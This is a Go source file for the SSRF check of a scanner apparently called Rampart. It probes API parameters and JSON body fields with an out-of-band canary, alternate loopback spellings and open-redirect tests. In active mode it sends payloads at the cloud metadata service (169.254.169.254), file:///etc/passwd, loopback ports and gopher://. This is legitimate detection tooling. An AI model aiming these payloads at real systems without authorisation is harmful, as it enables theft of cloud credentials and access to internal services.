// Package ssrf proves server-side request forgery out of band: a parameter that
// takes a URL makes the target call Rampart's canary. Parameters are found by
// name, by spec format and by URL-looking values; filter bypasses use other
// spellings of the canary's address; with --active, internal destinations
// (metadata, the target's own loopback port, file://) are tried too.
package ssrf

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"sync"
	"time"

	"github.com/rampart-scan/rampart/internal/check"
	"github.com/rampart-scan/rampart/internal/compare"
	"github.com/rampart-scan/rampart/internal/identity"
	"github.com/rampart-scan/rampart/internal/oob"
	"github.com/rampart-scan/rampart/internal/plan"
	"github.com/rampart-scan/rampart/internal/probe"
	"github.com/rampart-scan/rampart/internal/spec"
)

// Family is the SSRF family. Use New for each scan.
type Family struct {
	mu   sync.Mutex
	late []pending
}

// New returns a fresh family.
func New() *Family { return &Family{} }

// Meta describes the family.
func (f *Family) Meta() check.Family {
	return check.Family{ID: "ssrf", Category: check.SSRF, Rules: rules}
}

// Estimate: about a dozen requests per URL parameter.
func (f *Family) Estimate(s *check.Scan) int { return 10 + 12*len(urlParams(s)) }

// Applies when there is a canary and a parameter that takes a URL.
func (f *Family) Applies(s *check.Scan) (bool, string) {
	if s.Canary == nil {
		return false, "no out-of-band canary"
	}
	if len(urlParams(s)) == 0 && (!s.Options.Active || len(BodyURLFields(s, false)) == 0) {
		return false, "no parameter takes a URL"
	}
	return true, ""
}

var urlName = regexp.MustCompile(`(?i)^(url|uri|link|href|src|source|dest|destination|target|endpoint|callback|callback_?url|webhook|webhook_?url|hook|redirect|redirect_?(uri|url|to)|return_?(url|to)|next|continue|image|image_?url|img|avatar|avatar_?url|feed|feed_?url|rss|proxy|fetch|load|site|host|file_?url|document_?url|icon|logo|picture|photo_?url|preview)$`)

// Param is a URL-taking parameter of an operation.
type Param struct {
	Op     *plan.Operation
	In     string // query, path, header
	Name   string
	Sample string
}

// urlParams finds URL-taking path, query and header parameters of GET operations.
func urlParams(s *check.Scan) []Param { return URLParams(s) }

// URLParams finds URL-taking path, query and header parameters of GET operations.
func URLParams(s *check.Scan) []Param {
	var out []Param
	for _, o := range s.Plan.Operations {
		if o.Method != http.MethodGet || o.Spec == nil {
			continue
		}
		sampler := s.Plan.Sampler(o)
		for _, p := range o.Spec.Parameters {
			if p.In != "query" && p.In != "path" && p.In != "header" {
				continue
			}
			if IsURLParam(p) {
				out = append(out, Param{Op: o, In: p.In, Name: p.Name, Sample: sampler.ParamValue(p)})
			}
		}
	}
	return out
}

// IsURLParam: by name, by format uri/url, or by a URL-looking example.
func IsURLParam(p *spec.Parameter) bool {
	if urlName.MatchString(p.Name) {
		return true
	}
	if p.Schema != nil && (p.Schema.Format == "uri" || p.Schema.Format == "url" || p.Schema.Format == "uri-reference") {
		return true
	}
	if ex, ok := p.Example.(string); ok && (strings.HasPrefix(ex, "http://") || strings.HasPrefix(ex, "https://")) {
		return true
	}
	if p.Schema != nil {
		if ex, ok := p.Schema.Example.(string); ok && (strings.HasPrefix(ex, "http://") || strings.HasPrefix(ex, "https://")) {
			return true
		}
	}
	return false
}

func fatal(err error) bool {
	return errors.Is(err, probe.ErrBudgetExhausted) || errors.Is(err, context.Canceled) || errors.Is(err, context.DeadlineExceeded)
}

func caller(ctx context.Context, s *check.Scan, o *plan.Operation) *identity.Identity {
	return Caller(ctx, s, o)
}

// Caller is an identity whose normal request to the operation is accepted.
func Caller(ctx context.Context, s *check.Scan, o *plan.Operation) *identity.Identity {
	for _, id := range append(s.Identities.Users(), nil) {
		ex, err := s.Client.Do(ctx, s.Plan.Request(o, id))
		if err == nil && ex.Status != 401 && ex.Status != 403 {
			return id
		}
	}
	return nil
}

// Send makes the operation's request with the parameter set to value.
func Send(ctx context.Context, s *check.Scan, p Param, id *identity.Identity, value string, noFollow bool) (*probe.Exchange, error) {
	req := s.Plan.Request(p.Op, id)
	u, _ := url.Parse(req.URL)
	switch p.In {
	case "query":
		q := u.Query()
		q.Set(p.Name, value)
		u.RawQuery = q.Encode()
	case "path":
		pv := s.Plan.PathParams(p.Op, id)
		pv[p.Name] = value
		u.Path = strings.TrimSuffix(s.Plan.Base.Path, "/") + plan.Expand(p.Op.Path, pv)
		u.RawPath = ""
	case "header":
		req.Header.Set(p.Name, value)
	}
	req.URL = u.String()
	req.NoRetry = true
	req.NoFollow = noFollow
	ex, err := s.Client.Do(ctx, req)
	if err != nil {
		if fatal(err) {
			return nil, err
		}
		return nil, nil
	}
	return ex, nil
}

// wait is how long a probe waits for its canary hit: fetchers call out while
// handling the request, so the hit is normally there when the answer is.
// Late hits are collected once at the end of the run (lateWait).
const (
	wait     = 300 * time.Millisecond
	lateWait = 1500 * time.Millisecond
)

// Run tests every URL parameter; parameters run four at a time, since most
// of a probe's time is spent waiting for the canary.
func (f *Family) Run(ctx context.Context, s *check.Scan) error {
	defer f.sweep(ctx, s)
	params := urlParams(s)
	return check.Parallel(ctx, len(params), 4, func(ctx context.Context, i int) error {
		p := params[i]
		id := caller(ctx, s, p.Op)
		if err := f.param(ctx, s, p, id); err != nil {
			return err
		}
		if s.Enabled(RuleOpenRedirect) {
			return f.redirect(ctx, s, p, id)
		}
		return nil
	})
}

func hitNote(kind string, h oob.Hit) check.Evidence {
	return check.Evidence{Kind: check.EvidenceOOB, Note: fmt.Sprintf("%s: the canary received %s %s from %s (User-Agent %q, TLS %t)", kind, h.Method, h.URI, h.RemoteAddr, h.Header.Get("User-Agent"), h.TLS)}
}

// pending is a plain probe that got no hit in time; a late hit still counts.
type pending struct {
	p   Param
	tok string
	ex  *probe.Exchange
	at  time.Time
}

// sweep waits once for late hits of every pending probe.
func (f *Family) sweep(ctx context.Context, s *check.Scan) {
	if len(f.late) == 0 {
		return
	}
	var last time.Time
	for _, pd := range f.late {
		if pd.at.After(last) {
			last = pd.at
		}
	}
	deadline := last.Add(lateWait) // from the last pending probe, not from now
	for _, pd := range f.late {
		hit, ok := s.Canary.Wait(ctx, pd.tok, time.Until(deadline))
		if !ok {
			continue
		}
		s.Report(check.Finding{Rule: RuleURLParameter, Severity: check.Critical, Confidence: check.Confirmed, Method: pd.p.Op.Method, Path: pd.p.Op.Path,
			Parameter: &check.Param{In: pd.p.In, Name: pd.p.Name}, Identity: pd.ex.Identity,
			Detail:   fmt.Sprintf("%s %q makes the server fetch a URL of the caller's choice: Rampart's canary was called from %s (after the answer: the fetch is asynchronous).", pd.p.In, pd.p.Name, hit.RemoteAddr),
			Evidence: []check.Evidence{s.Evidence(pd.ex, "the parameter points at the canary"), hitNote("late hit", hit)}, Curl: s.Curl(pd.ex), SpecLocation: check.SpecLocation(pd.p.Op)})
	}
	f.late = nil
}

func (f *Family) param(ctx context.Context, s *check.Scan, p Param, id *identity.Identity) error {
	c := s.Canary
	tok := c.NewToken()
	ex, err := Send(ctx, s, p, id, c.URL(tok), false)
	if err != nil {
		return err
	}
	if ex != nil && ex.Status >= 300 && ex.Status < 400 && strings.HasPrefix(ex.Header.Get("Location"), c.URL(tok)) {
		return nil // the parameter is a redirect target, not fetched: the open-redirect rule's business
	}
	hit, ok := c.Wait(ctx, tok, wait)
	var extra []check.Evidence
	if ok {
		ev := []check.Evidence{s.Evidence(ex, "the parameter points at the canary"), hitNote("hit", hit)}
		if s.Options.Active {
			more, err := f.internal(ctx, s, p, id)
			if err != nil {
				return err
			}
			extra = more
		}
		s.Report(check.Finding{Rule: RuleURLParameter, Severity: check.Critical, Confidence: check.Confirmed, Method: p.Op.Method, Path: p.Op.Path,
			Parameter: &check.Param{In: p.In, Name: p.Name}, Identity: ex.Identity,
			Detail:   fmt.Sprintf("%s %q makes the server fetch a URL of the caller's choice: Rampart's canary was called from %s.", p.In, p.Name, hit.RemoteAddr),
			Evidence: append(ev, extra...), Curl: s.Curl(ex), SpecLocation: check.SpecLocation(p.Op)})
		return nil
	}
	if ex != nil {
		f.mu.Lock()
		f.late = append(f.late, pending{p: p, tok: tok, ex: ex, at: time.Now()})
		f.mu.Unlock()
	}
	// Another spelling is worth trying only when the plain address was refused.
	if s.Enabled(RuleFilterBypass) && ex != nil && ex.Status >= 400 && ex.Status < 500 && ex.Status != 401 && ex.Status != 403 {
		if err := f.bypass(ctx, s, p, id, ex); err != nil {
			return err
		}
	}
	if s.Options.Active {
		more, err := f.internal(ctx, s, p, id)
		if err != nil {
			return err
		}
		for _, e := range more {
			if e.Kind == check.EvidenceHTTP {
				rule, sev := RuleInternalReach, check.Critical
				if strings.Contains(e.Note, "file://") {
					rule, sev = RuleScheme, check.High
				}
				s.Report(check.Finding{Rule: rule, Severity: sev, Confidence: check.Confirmed, Method: p.Op.Method, Path: p.Op.Path,
					Parameter: &check.Param{In: p.In, Name: p.Name}, Identity: e.Identity, Detail: e.Note, Evidence: []check.Evidence{e}, SpecLocation: check.SpecLocation(p.Op)})
			}
		}
	}
	return nil
}

// spellings are other ways to write the canary's loopback address.
func spellings(host string) []string {
	h, port, err := net.SplitHostPort(host)
	if err != nil {
		return nil
	}
	ip := net.ParseIP(h).To4()
	if ip == nil || !ip.IsLoopback() {
		return nil // only the loopback canary is respelled without --active
	}
	n := binary.BigEndian.Uint32(ip)
	out := []string{
		fmt.Sprintf("%d.%d:%s", ip[0], ip[3], port),
		fmt.Sprintf("%d:%s", n, port),
		fmt.Sprintf("0x%08x:%s", n, port),
		fmt.Sprintf("[::ffff:%s]:%s", ip.String(), port),
		"localhost.:" + port,
		fmt.Sprintf("0%o.0.0.%d:%s", ip[0], ip[3], port),
	}
	return out
}

// bypass tries other spellings after the plain canary URL was refused. All
// spellings are sent first, then their hits are awaited together, so a
// filter that refuses every one costs one wait, not six.
func (f *Family) bypass(ctx context.Context, s *check.Scan, p Param, id *identity.Identity, plain *probe.Exchange) error {
	c := s.Canary
	type try struct {
		tok, u string
		ex     *probe.Exchange
	}
	var tries []try
	for _, host := range spellings(c.Host()) {
		tok := c.NewToken()
		u := "http://" + host + "/t/" + tok
		ex, err := Send(ctx, s, p, id, u, false)
		if err != nil {
			return err
		}
		if ex != nil {
			tries = append(tries, try{tok, u, ex})
		}
	}
	deadline := time.Now().Add(wait)
	for _, t := range tries {
		hit, ok := c.Wait(ctx, t.tok, time.Until(deadline))
		if !ok {
			continue
		}
		ev := []check.Evidence{s.Evidence(t.ex, "respelled canary address"), hitNote("hit", hit)}
		if plain != nil {
			ev = append(ev, s.Evidence(plain, "plain canary address: not fetched"))
		}
		s.Report(check.Finding{Rule: RuleFilterBypass, Severity: check.High, Confidence: check.Confirmed, Method: p.Op.Method, Path: p.Op.Path,
			Parameter: &check.Param{In: p.In, Name: p.Name}, Identity: t.ex.Identity,
			Detail:   fmt.Sprintf("The plain canary URL is not fetched, but %s is: the filter compares strings, not addresses.", t.u),
			Evidence: ev, Curl: s.Curl(t.ex), SpecLocation: check.SpecLocation(p.Op)})
		return nil
	}
	return nil
}

var (
	metadataSig = regexp.MustCompile(`(?i)(ami-id|instance-id|instance-type|iam/security-credentials|computeMetadata|"AccessKeyId"|local-ipv4|placement/availability-zone)`)
	passwdSig   = regexp.MustCompile(`root:[x*]?:0:0:`)
)

// internal (--active) points the parameter at internal destinations and returns
// evidence of what came back: the metadata service, file://, the target's own
// loopback port, gopher:// at the canary.
func (f *Family) internal(ctx context.Context, s *check.Scan, p Param, id *identity.Identity) ([]check.Evidence, error) {
	var out []check.Evidence
	try := func(value string, match func(*probe.Exchange) bool, note string) error {
		ex, err := Send(ctx, s, p, id, value, false)
		if err != nil {
			return err
		}
		if ex != nil && check.OK(ex.Status) && match(ex) {
			e := s.Evidence(ex, note)
			out = append(out, e)
		}
		return nil
	}
	if err := try("http://169.254.169.254/latest/meta-data/", func(ex *probe.Exchange) bool { return metadataSig.Match(ex.Body) },
		"the cloud metadata service (169.254.169.254) answered through the parameter"); err != nil {
		return nil, err
	}
	if err := try("file:///etc/passwd", func(ex *probe.Exchange) bool { return passwdSig.Match(ex.Body) },
		"file:///etc/passwd came back through the parameter (file:// is accepted)"); err != nil {
		return nil, err
	}
	// The target's own documented GET, fetched through its loopback address.
	if self := selfURL(s); self != "" {
		direct, err := s.Client.Do(ctx, &probe.Request{Method: http.MethodGet, URL: self})
		if err == nil && check.OK(direct.Status) && len(direct.Body) > 40 {
			loop := loopbackOf(self)
			if err := try(loop, func(ex *probe.Exchange) bool {
				return compare.Similarity(ex.Body, direct.Body) < 1 && strings.Contains(string(ex.Body), string(direct.Body[:min(len(direct.Body), 40)]))
			}, "the target's own loopback service ("+loop+") answered through the parameter"); err != nil {
				return nil, err
			}
		}
	}
	// gopher:// only ever at the canary: a raw HTTP request line sent over gopher.
	tok := s.Canary.NewToken()
	if _, err := Send(ctx, s, p, id, "gopher://"+s.Canary.Host()+"/_GET%20/t/"+tok+"%20HTTP/1.0%0D%0A%0D%0A", false); err != nil {
		return nil, err
	}
	if hit, ok := s.Canary.Wait(ctx, tok, wait); ok {
		out = append(out, hitNote("gopher:// is accepted", hit))
	}
	return out, nil
}

// selfURL is a public GET of the target (the spec itself, or a parameterless documented GET).
func selfURL(s *check.Scan) string {
	for _, o := range s.Plan.Operations {
		if o.Method == http.MethodGet && !strings.Contains(o.Path, "{") && (o.Spec == nil || !o.Spec.Secured()) {
			return s.Plan.URL(o.Path, nil)
		}
	}
	return ""
}

// loopbackOf rewrites a URL to 127.0.0.1 with the same port.
func loopbackOf(raw string) string {
	u, err := url.Parse(raw)
	if err != nil {
		return raw
	}
	port := u.Port()
	if port == "" {
		port = map[string]string{"https": "443"}[u.Scheme]
		if port == "" {
			port = "80"
		}
	}
	u.Host = net.JoinHostPort("127.0.0.1", port)
	return u.String()
}

// redirect: a redirect-like parameter sent an external URL answers 3xx to it.
func (f *Family) redirect(ctx context.Context, s *check.Scan, p Param, id *identity.Identity) error {
	if p.In == "header" {
		return nil
	}
	ext := "https://rampart-" + s.Canary.NewToken()[2:10] + ".example/landing"
	ex, err := Send(ctx, s, p, id, ext, true)
	if err != nil || ex == nil {
		return err
	}
	loc := ex.Header.Get("Location")
	if ex.Status < 300 || ex.Status > 399 || !strings.HasPrefix(loc, ext) {
		return nil
	}
	s.Report(check.Finding{Rule: RuleOpenRedirect, Severity: check.Medium, Confidence: check.Confirmed, Method: p.Op.Method, Path: p.Op.Path,
		Parameter: &check.Param{In: p.In, Name: p.Name}, Identity: ex.Identity,
		Detail:   fmt.Sprintf("%s %q redirects to any external URL (%d, Location: %s).", p.In, p.Name, ex.Status, loc),
		Evidence: []check.Evidence{s.Evidence(ex, "redirect to a foreign host")}, Curl: s.Curl(ex), SpecLocation: check.SpecLocation(p.Op)})
	return nil
}

var (
	_ check.Check      = (*Family)(nil)
	_ check.Applicable = (*Family)(nil)
)

// BodyURLField is a URL-taking field of a JSON write body.
type BodyURLField struct {
	Op    *plan.Operation
	Field string
}

var callbackName = regexp.MustCompile(`(?i)(webhook|callback|notify|notification_?url|hook_?url|ping_?url|events?_?url)`)

// BodyURLFields lists URL-taking top-level fields of JSON write bodies; callbacks
// selects webhook-like names (the consumption family's) or the others (SSRF's).
func BodyURLFields(s *check.Scan, callbacks bool) []BodyURLField {
	var out []BodyURLField
	for _, o := range s.Plan.Operations {
		if o.Spec == nil || o.Spec.RequestBody == nil || (o.Method != http.MethodPost && o.Method != http.MethodPut && o.Method != http.MethodPatch) {
			continue
		}
		if o.Class&(plan.Login|plan.OTPCheck|plan.PasswordReset|plan.LLMSpec|plan.LLMPath) != 0 {
			continue
		}
		mt := spec.JSONMediaType(o.Spec.RequestBody.Content)
		if mt == nil || mt.Schema == nil {
			continue
		}
		for name, sc := range mt.Schema.Properties {
			isURL := urlName.MatchString(name) || callbackName.MatchString(name) || (sc != nil && (sc.Format == "uri" || sc.Format == "url"))
			if isURL && callbackName.MatchString(name) == callbacks {
				out = append(out, BodyURLField{Op: o, Field: name})
			}
		}
	}
	return out
}

// SendBody posts the operation's sample body with one field set to value, as an identity that can write it.
func SendBody(ctx context.Context, s *check.Scan, b BodyURLField, value string) (*probe.Exchange, error) {
	for _, id := range append(s.Identities.Users(), nil) {
		req := s.Plan.Request(b.Op, id)
		var body map[string]any
		if len(req.Body) == 0 || jsonUnmarshal(req.Body, &body) != nil {
			body = map[string]any{}
		}
		body[b.Field] = value
		req.Body, _ = jsonMarshal(body)
		req.Header.Set("Content-Type", "application/json")
		req.NoRetry = true
		ex, err := s.Client.Do(ctx, req)
		if err != nil {
			if fatal(err) {
				return nil, err
			}
			continue
		}
		if ex.Status != 401 && ex.Status != 403 {
			return ex, nil
		}
	}
	return nil, nil
}

// RunWrites (phase 3, --active): URL fields of JSON bodies.
func (f *Family) RunWrites(ctx context.Context, s *check.Scan) error {
	if !s.Enabled(RuleURLParameter) {
		return nil
	}
	for _, b := range BodyURLFields(s, false) {
		tok := s.Canary.NewToken()
		ex, err := SendBody(ctx, s, b, s.Canary.URL(tok))
		if err != nil {
			return err
		}
		if ex == nil {
			continue
		}
		if hit, ok := s.Canary.Wait(ctx, tok, wait); ok {
			s.Report(check.Finding{Rule: RuleURLParameter, Severity: check.Critical, Confidence: check.Confirmed, Method: b.Op.Method, Path: b.Op.Path,
				Parameter: &check.Param{In: "body", Name: b.Field}, Identity: ex.Identity,
				Detail:   fmt.Sprintf("The body field %q makes the server fetch a URL of the caller's choice (canary called from %s).", b.Field, hit.RemoteAddr),
				Evidence: []check.Evidence{s.Evidence(ex, "the field points at the canary"), hitNote("hit", hit)}, Curl: s.Curl(ex), SpecLocation: check.SpecLocation(b.Op)})
		}
	}
	return nil
}
